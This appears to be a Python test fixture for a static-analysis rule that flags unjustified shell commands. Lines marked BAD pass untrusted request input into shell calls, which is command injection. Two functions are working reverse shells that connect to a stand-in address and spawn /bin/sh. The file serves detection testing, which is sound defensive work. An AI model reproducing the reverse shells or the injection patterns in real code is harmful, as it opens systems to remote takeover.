import asyncio
import getopt
import os
import pty
import socket
import subprocess
import sys

import paramiko
from django.http import HttpResponse
from fabric import Connection


def handler(event, context):
    subprocess.run(event["cmd"].split())  # BAD no-unjustified-commands/untrusted-input
    os.system("ls " + event["dir"])  # BAD no-unjustified-commands/untrusted-input
    subprocess.run(["ls", "-l", event["dir"]])


def view(request, name):
    subprocess.Popen(f"grep {name} /tmp/x", shell=True)  # BAD no-unjustified-commands/untrusted-input
    os.popen("grep " + request.GET["q"])  # BAD no-unjustified-commands/untrusted-input
    subprocess.Popen("grep {}".format(request.GET["q"]), shell=True)  # BAD no-unjustified-commands/untrusted-input
    subprocess.Popen(" ".join(["grep", request.POST.get("q")]), shell=True)  # BAD no-unjustified-commands/untrusted-input
    return HttpResponse(subprocess.check_output(["grep", "--", name, "notes.txt"]))


async def tool(request):
    await asyncio.create_subprocess_shell(f"git log {request.args['x']}")  # BAD no-unjustified-commands/untrusted-input
    await asyncio.create_subprocess_exec("git", "log", request.args["x"])
    await asyncio.create_subprocess_exec(request.args["program"])  # BAD no-unjustified-commands/untrusted-input


def remote(request):
    client = paramiko.SSHClient()
    client.exec_command("tar xf " + request.POST["name"])  # BAD no-unjustified-commands/untrusted-input
    Connection("host").run(f"tar xf {request.POST['name']}")  # BAD no-unjustified-commands/untrusted-input


def reverse():
    s = socket.socket()
    s.connect(("203.0.113.9", 4242))
    for number in (0, 1, 2):
        os.dup2(s.fileno(), number)  # BAD no-unjustified-commands/download-and-run
    pty.spawn("/bin/sh")


def reverse_popen():
    s = socket.create_connection(("203.0.113.9", 4242))
    subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)  # BAD no-unjustified-commands/download-and-run


def options():
    pairs, rest = getopt.getopt(sys.argv[1:], "o:")
    for name, value in pairs:
        os.system("convert " + value)  # BAD no-unjustified-commands/untrusted-input
        print(name)
    subprocess.run(rest)  # BAD no-unjustified-commands/untrusted-input


def own_output():
    log = os.open("log.txt", os.O_WRONLY)
    os.dup2(log, 1)
    subprocess.run(["make", "all"], stdin=subprocess.DEVNULL)
